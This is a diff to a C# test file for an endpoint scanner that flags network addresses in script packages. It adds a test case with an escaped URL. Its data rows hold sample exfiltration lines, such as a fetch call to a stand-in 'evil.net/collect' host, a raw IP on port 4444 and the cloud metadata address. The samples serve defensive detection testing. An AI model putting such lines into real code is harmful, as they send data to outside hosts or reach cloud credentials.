@@ -16,6 +16,7 @@ public sealed class EndpointsScannerTests
     [InlineData("endpoint-fetched", "fetch('https://evil.net/collect');")]
     [InlineData("endpoint-fetched", "host.http.fetch({ url: \"https://api.acme.org:444/\" });")]
     [InlineData("endpoint-undeclared", "const home = 'https://evil.net/collect';")]
+    [InlineData("endpoint-undeclared", "const home = 'https:\\/\\/evil.net\\/collect';")]
     [InlineData("endpoint-undeclared", "const home = 'wss://evil.net';")]
     [InlineData("endpoint-address", "const home = 'http://203.0.113.7:4444/x';")]
     [InlineData("endpoint-metadata", "const where = '169.254.169.254';")]
@@ -33,7 +34,7 @@ public sealed class EndpointsScannerTests
 
     [Fact]
     public async Task Scan_OfLinksInTexts_FindsNothing() =>
-        (await _scanner.ScanAsync(PackageFixture.Script("const svg = 'http://www.w3.org/2000/svg'; const me = 'http://127.0.0.1:8080', l = 'http://localhost';".Replace(", l = 'http://localhost'", "", StringComparison.Ordinal))
+        (await _scanner.ScanAsync(PackageFixture.Script("const svg = 'http://www.w3.org/2000/svg'; const me = 'http://127.0.0.1:8080';")
             .With("README.md", "See https://acme.org/weather and http://203.0.113.7.\n"))).Free("endpoint-address");
 
     [Fact]
